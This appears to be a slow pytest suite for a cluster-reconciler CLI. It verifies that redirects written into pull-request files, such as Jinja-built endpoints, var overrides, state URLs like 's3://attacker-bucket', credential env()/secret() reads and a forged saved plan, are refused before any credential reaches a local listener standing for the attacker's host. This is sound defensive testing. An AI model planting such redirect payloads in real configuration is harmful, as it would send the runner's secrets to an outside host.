"""Nothing in a pull request can send the runner's credentials elsewhere (issue 19, items 1-2).

The real CLI (click's runner, in-process) with marker credentials in the
environment, and a local listener standing for the attacker's host: it
counts every connection and keeps every byte it receives. Each redirect a
pull request can write — an endpoint in the file, in a var file, built by a
Jinja expression, passed through ``--var``, a region that smuggles a host, a
``state: {url: …}`` block, an s3 URL's ``endpoint=`` — must be refused at
file:line, saying how the operator allows it, with 0 connections to the
listener and no marker in the output or in any file written. Each positive
control (the operator allows the listener) shows the listener does see them.
Then each disallowed ``env()``/``secret()`` read is refused in one line.
"""

from __future__ import annotations

import contextlib
import json
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from reconciler.cli import cli
from reconciler.planfile.integrity import plan_digest

# End to end through real processes or a served emulator: with -m slow (CI runs both).
pytestmark = pytest.mark.slow

MARKERS = {
    "HW_AUTH_TOKEN": "marker-token-4c1e9a",
    "HW_ACCESS_KEY": "MARKERAK7Q2W",
    "HW_SECRET_KEY": "marker-sk-8d3f0b",
    "HW_PROJECT_ID": "0504201b6c80256b2f08c0099f0c8fe4",
    "PG_CONN_STR": "host=db user=r password=marker-pg-5e7c",
    "PGPASSWORD": "marker-pgpass-2b9d",
    "AWS_ACCESS_KEY_ID": "MARKERAWSKEY01",
    "AWS_SECRET_ACCESS_KEY": "marker-aws-secret-61fa",
    "ADDON_TOKEN": "marker-addon-secret-93ce",
}
"""Every value a redirect could carry off; none may appear anywhere."""
SECRET_MARKERS = [v for k, v in MARKERS.items() if k != "HW_PROJECT_ID"]

CLUSTER = """\
clusters:
  demo-staging:
    cluster_id: 7c1f5a2e-4368-11f0-ba56-0255ac100037
    addons:
      coredns:
        version: 1.30.33
        values:
          custom:
            password: "{{ secret('ADDON_TOKEN') }}"
        allow_unknown_values: [custom.password]
"""


@dataclass
class Listener:
    """A TCP listener on 127.0.0.1 that counts connections and keeps what they send."""

    port: int = 0
    connections: int = 0
    received: bytearray = field(default_factory=bytearray)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@contextmanager
def listening() -> Iterator[Listener]:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("127.0.0.1", 0))
    sock.listen(64)
    sock.settimeout(0.1)
    listener = Listener(port=sock.getsockname()[1])
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            listener.connections += 1
            conn.settimeout(0.5)
            with contextlib.suppress(OSError):
                listener.received += conn.recv(65536)
            conn.close()  # no answer: the client fails, after having sent what it would

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield listener
    finally:
        stop.set()
        thread.join(5)
        sock.close()


def run(cwd: Path, monkeypatch: pytest.MonkeyPatch, *args: str,
        env: dict[str, str] | None = None) -> Result:
    monkeypatch.chdir(cwd)
    # No allow-list from the machine running the tests: only what each case passes.
    environ = {**MARKERS, "NO_COLOR": "1", "RECONCILER_ALLOWED_ENDPOINTS": "",
               "RECONCILER_ALLOW_ENV": "", "RECONCILER_STATE": "", **(env or {})}
    return CliRunner().invoke(cli, list(args), env=environ)


def assert_no_marker_anywhere(result: Result, root: Path, listener: Listener) -> None:
    """No marker in stdout/stderr, in any file under ``root`` or at the listener."""
    for marker in SECRET_MARKERS:
        assert marker not in result.output, marker
        assert marker.encode() not in listener.received, marker
    for path in root.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            for marker in SECRET_MARKERS:
                assert marker.encode() not in data, (path, marker)


def assert_refused_at(result: Result, where: str, *needles: str) -> None:
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    errors = [line for line in result.stderr.splitlines() if ": error: " in line]
    assert len(errors) == 1, result.stderr
    assert errors[0].startswith(where), result.stderr
    for needle in needles:
        assert needle in errors[0], result.stderr


def header(endpoint_line: str, region: str = "ap-southeast-1") -> str:
    return ("apiVersion: reconciler/v1\n"
            "defaults:\n"
            f"  region: {region}\n"
            "  project_id: \"0504201b6c80256b2f08c0099f0c8fe4\"\n"
            f"{endpoint_line}")


@dataclass(frozen=True)
class Redirect:
    """A desired-state file (and extra arguments) pointing the cluster at the listener."""

    text: str
    args: tuple[str, ...] = ()
    var_file: str | None = None
    where: str = "desired.yaml:5:13"


def redirects(url: str) -> dict[str, Redirect]:
    host, port = url.removeprefix("http://").split(":")
    return {
        "file": Redirect(header(f"  endpoint: {url}\n") + CLUSTER),
        "var-file": Redirect(header("  endpoint: \"{{ vars.ep }}\"\n") + CLUSTER,
                             ("--var-file", "vars.yaml"), var_file=f"ep: {url}\n"),
        "jinja": Redirect(header(
            "  endpoint: \"{{ ['http:', '', '" + host + ":' ~ (" + port + " // 1)]"
            "|join('/') }}\"\n") + CLUSTER),
        "--var": Redirect(header("  endpoint: \"{{ vars.ep }}\"\n") + CLUSTER,
                          ("--var", f"ep={url}")),
        # No endpoint: derived from a region missing from the official table (a
        # region that smuggles a host in is already a schema error).
        "region": Redirect(header("", region="zz-nowhere-9") + CLUSTER,
                           where="desired.yaml:3:11"),
        "cluster-level": Redirect(header("") + CLUSTER.replace(
            "    addons:", f"    endpoint: {url}\n    addons:"), where="desired.yaml:8:15"),
    }


COMMANDS = {
    "validate": ("validate",),
    "plan --precheck": ("plan", "--precheck"),
    "apply": ("apply", "--auto-approve"),
    "drift": ("drift",),
}


@pytest.mark.parametrize("command", sorted(COMMANDS))
@pytest.mark.parametrize("case", ["file", "var-file", "jinja", "--var", "region",
                                  "cluster-level"])
def test_a_redirect_in_the_files_is_refused_before_anything_is_sent(
        case: str, command: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with listening() as listener:
        redirect = redirects(listener.url)[case]
        (tmp_path / "desired.yaml").write_text(redirect.text, encoding="utf-8")
        if redirect.var_file is not None:
            (tmp_path / "vars.yaml").write_text(redirect.var_file, encoding="utf-8")

        result = run(tmp_path, monkeypatch, *COMMANDS[command], "desired.yaml",
                     *redirect.args, "--allow-env", "ADDON_TOKEN")

        assert_refused_at(result, redirect.where, "is not allowed",
                          "--allow-endpoint", "RECONCILER_ALLOWED_ENDPOINTS")
        assert listener.connections == 0
        assert_no_marker_anywhere(result, tmp_path, listener)
        assert not (tmp_path / ".reconciler" / "state").exists()


@pytest.mark.parametrize("case", ["file", "var-file", "jinja", "--var", "cluster-level"])
def test_the_listener_sees_what_the_operator_allows(
        case: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The positive control: the same file with the operator's allowance
    reaches the listener, so a 0 above is the refusal, not a deaf listener."""
    with listening() as listener:
        redirect = redirects(listener.url)[case]
        (tmp_path / "desired.yaml").write_text(redirect.text, encoding="utf-8")
        if redirect.var_file is not None:
            (tmp_path / "vars.yaml").write_text(redirect.var_file, encoding="utf-8")

        allowed = f"https://elsewhere.example, {listener.url}"
        result = run(tmp_path, monkeypatch, "plan", "desired.yaml", *redirect.args,
                     "--allow-env", "ADDON_TOKEN",
                     env={"RECONCILER_ALLOWED_ENDPOINTS": allowed})

        assert result.exit_code == 1, result.output  # the listener never answers
        assert "is not allowed" not in result.output
        assert listener.connections >= 1
        # AK/SK signing wins over the token: the access key is in each Authorization.
        assert MARKERS["HW_ACCESS_KEY"].encode() in listener.received


def test_the_region_table_endpoint_and_emulators_need_no_allowance(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for region, endpoint in [("eu-west-101", "https://cce.eu-west-101.myhuaweicloud.eu"),
                             ("cn-north-4", "https://CCE.cn-north-4.myhuaweicloud.com:443/")]:
        (tmp_path / "desired.yaml").write_text(
            header(f"  endpoint: {endpoint}\n", region=region) + CLUSTER, encoding="utf-8")
        result = run(tmp_path, monkeypatch, "validate", "desired.yaml", "--allow-env",
                     "ADDON_TOKEN")
        assert result.exit_code == 0, result.output
    # Another region's official endpoint is not this cluster's.
    (tmp_path / "desired.yaml").write_text(
        header("  endpoint: https://cce.cn-north-4.myhuaweicloud.com\n") + CLUSTER,
        encoding="utf-8")
    result = run(tmp_path, monkeypatch, "validate", "desired.yaml", "--allow-env", "ADDON_TOKEN")
    assert_refused_at(result, "desired.yaml:5:13", "official CCE endpoint of region"
                      " 'ap-southeast-1' (https://cce.ap-southeast-1.myhuaweicloud.com)")


def test_an_operator_endpoint_wins_over_the_files(tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """``--endpoint`` is the operator's: the file's endpoint is then never used."""
    with listening() as listener:
        (tmp_path / "desired.yaml").write_text(
            header(f"  endpoint: {listener.url}\n") + CLUSTER, encoding="utf-8")
        result = run(tmp_path, monkeypatch, "plan", "desired.yaml", "--endpoint",
                     "emulator://demo", "--allow-env", "ADDON_TOKEN")
        assert result.exit_code == 0, result.output
        assert listener.connections == 0
        assert_no_marker_anywhere(result, tmp_path, listener)


STATE_URLS: dict[str, tuple[str, tuple[str, ...], str]] = {
    # (the file's state URL, what the operator allows, the place refused)
    "postgres": ("postgres://reconciler@127.0.0.1:{port}/state", (),
                 "postgres://127.0.0.1:{port}"),
    "s3 bucket": ("s3://attacker-bucket/x?region=us-east-1", (), "s3://attacker-bucket"),
    "s3 endpoint=": ("s3://team-state/prod?endpoint=http://127.0.0.1:{port}&region=r",
                     ("s3://team-state",), "http://127.0.0.1:{port}"),
    "s3 lock_url": ("s3://team-state/prod?endpoint=https://obs.example.com&lock=postgres"
                    "&lock_url=postgres://r@127.0.0.1:{port}/locks",
                    ("s3://team-state", "https://obs.example.com"),
                    "postgres://127.0.0.1:{port}"),
}


@pytest.mark.parametrize("command", ["plan", "apply", "drift"])
@pytest.mark.parametrize("case", sorted(STATE_URLS))
def test_a_state_url_in_a_file_is_refused(case: str, command: str, tmp_path: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    with listening() as listener:
        url, allowed, first = STATE_URLS[case]
        url, first = url.format(port=listener.port), first.format(port=listener.port)
        text = (header("  endpoint: emulator://demo\n") + CLUSTER
                + f"state:\n  url: \"{url}\"\n")
        (tmp_path / "desired.yaml").write_text(text, encoding="utf-8")
        args = ["--auto-approve"] if command == "apply" else []
        args += [arg for entry in allowed for arg in ("--allow-endpoint", entry)]

        result = run(tmp_path, monkeypatch, command, "desired.yaml", *args,
                     "--allow-env", "ADDON_TOKEN")

        assert_refused_at(result, "desired.yaml:17:8", "state URL", "not allowed",
                          f"--allow-endpoint {first}", "--state")
        assert listener.connections == 0
        assert_no_marker_anywhere(result, tmp_path, listener)


def test_a_state_url_reaches_its_server_once_allowed(tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    with listening() as listener:
        url = f"s3://team-state/prod?endpoint={listener.url}&region=r"
        (tmp_path / "desired.yaml").write_text(
            header("  endpoint: emulator://demo\n") + CLUSTER + f"state:\n  url: \"{url}\"\n",
            encoding="utf-8")
        result = run(tmp_path, monkeypatch, "plan", "desired.yaml", "--allow-env", "ADDON_TOKEN",
                     "--allow-endpoint", listener.url, "--allow-endpoint", "s3://team-state")
        assert "not allowed" not in result.output
        assert listener.connections >= 1


def test_an_operator_state_url_makes_the_files_block_unused(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with listening() as listener:
        url = f"postgres://r@127.0.0.1:{listener.port}/state"
        (tmp_path / "desired.yaml").write_text(
            header("  endpoint: emulator://demo\n") + CLUSTER + f"state:\n  url: \"{url}\"\n",
            encoding="utf-8")
        result = run(tmp_path, monkeypatch, "plan", "desired.yaml", "--allow-env", "ADDON_TOKEN",
                     "--state", str(tmp_path / "mine"))
        assert result.exit_code == 0, result.output
        assert listener.connections == 0


READS = [
    # (template call, --allow-env given, what the refusal says)
    ("env('PG_CONN_STR')", (), "own credential"),
    ("env('TEAM_DB')", ("TEAM_DB_*",), "not a variable the operator allows"),
    ("env('PG_CONN_STR')", ("PG_CONN_STR",), "own credential"),
    ("env('PGPASSWORD')", ("*",), "own credential"),
    ("secret('HW_SECRET_KEY')", ("*",), "own credential"),
    ("secret('HW_AUTH_TOKEN')", ("HW_*",), "own credential"),
    ("env('hw_access_key')", ("*",), "own credential"),
    ("secret('AWS_SECRET_ACCESS_KEY')", ("AWS_SECRET_ACCESS_KEY",), "own credential"),
    ("secret('RECONCILER_STATE')", ("*",), "own credential"),
    ("secret('ADDON_TOKEN')", ("OTHER_*",), "not a variable the operator allows"),
    ("env('ADDON_TOKEN')", (), "not a variable the operator allows"),
]


@pytest.mark.parametrize("command", ["validate", "plan"])
@pytest.mark.parametrize(("call", "allowed", "says"), READS)
def test_a_disallowed_variable_read_is_refused_in_one_line(
        call: str, allowed: tuple[str, ...], says: str, command: str, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    name = call.split("'")[1]
    text = (header("  endpoint: emulator://demo\n") + CLUSTER).replace(
        "secret('ADDON_TOKEN')", call)
    (tmp_path / "desired.yaml").write_text(text, encoding="utf-8")
    flags = [arg for pattern in allowed for arg in ("--allow-env", pattern)]

    with listening() as listener:
        result = run(tmp_path, monkeypatch, command, "desired.yaml", *flags,
                     env={"hw_access_key": "marker-lower-1f"})

    assert_refused_at(result, "desired.yaml:14:", f"{call} is refused: `{name}`", says)
    if "operator allows" in says:
        assert f"--allow-env {name}" in result.stderr and "RECONCILER_ALLOW_ENV" in result.stderr
    assert_no_marker_anywhere(result, tmp_path, listener)
    assert "marker-lower-1f" not in result.output


def test_allowed_variables_are_read_by_flag_glob_or_environment(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    text = (header("  endpoint: emulator://demo\n") + CLUSTER).replace(
        "version: 1.30.33", "version: \"{{ env('TEAM_COREDNS') }}\"")
    (tmp_path / "desired.yaml").write_text(text, encoding="utf-8")
    env = {"TEAM_COREDNS": "1.30.33"}
    refused = run(tmp_path, monkeypatch, "validate", "desired.yaml", "--allow-env", "ADDON_TOKEN",
                  env=env)
    assert "env('TEAM_COREDNS') is refused" in refused.stderr
    for how in (["--allow-env", "TEAM_*", "--allow-env", "ADDON_TOKEN"],):
        assert run(tmp_path, monkeypatch, "validate", "desired.yaml", *how,
                   env=env).exit_code == 0
    both = run(tmp_path, monkeypatch, "plan", "desired.yaml",
               env={**env, "RECONCILER_ALLOW_ENV": "TEAM_*,ADDON_TOKEN"})
    assert both.exit_code == 0, both.output
    assert_no_marker_anywhere(both, tmp_path, Listener())


def test_a_saved_plan_reads_only_allowed_variables(tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """apply re-reads a saved plan's secret() values from the variables it
    names: a plan (resealed by whoever edited it) can't name the runner's."""
    (tmp_path / "desired.yaml").write_text(header("  endpoint: emulator://demo\n") + CLUSTER,
                                           encoding="utf-8")
    saved = run(tmp_path, monkeypatch, "plan", "desired.yaml", "--out", "p.json",
                "--allow-env", "ADDON_TOKEN")
    assert saved.exit_code == 0, saved.output
    plan = json.loads((tmp_path / "p.json").read_text(encoding="utf-8"))
    (change,) = [c for c in plan["clusters"][0]["changes"] if c["secret_sources"]]
    assert change["secret_sources"] == {"custom.password": ["ADDON_TOKEN"]}

    unallowed = run(tmp_path, monkeypatch, "apply", "p.json")
    assert unallowed.exit_code == 1, unallowed.output
    assert ("the plan's secret('ADDON_TOKEN') is refused: `ADDON_TOKEN` is not a variable the"
            " operator allows") in unallowed.stderr
    assert "--allow-env ADDON_TOKEN" in unallowed.stderr

    change["secret_sources"] = {"custom.password": ["HW_SECRET_KEY"]}
    change["secret_templates"] = {"custom.password": "${HW_SECRET_KEY}"}
    plan["digest"] = plan_digest(plan)
    (tmp_path / "forged.json").write_text(json.dumps(plan), encoding="utf-8")
    forged = run(tmp_path, monkeypatch, "apply", "forged.json", "--allow-env", "*")
    assert forged.exit_code == 1, forged.output
    assert "the plan's secret('HW_SECRET_KEY') is refused" in forged.stderr
    assert_no_marker_anywhere(forged, tmp_path, Listener())
    journal = tmp_path / ".reconciler" / "state" / "demo-staging.journal.jsonl"
    assert not journal.exists()
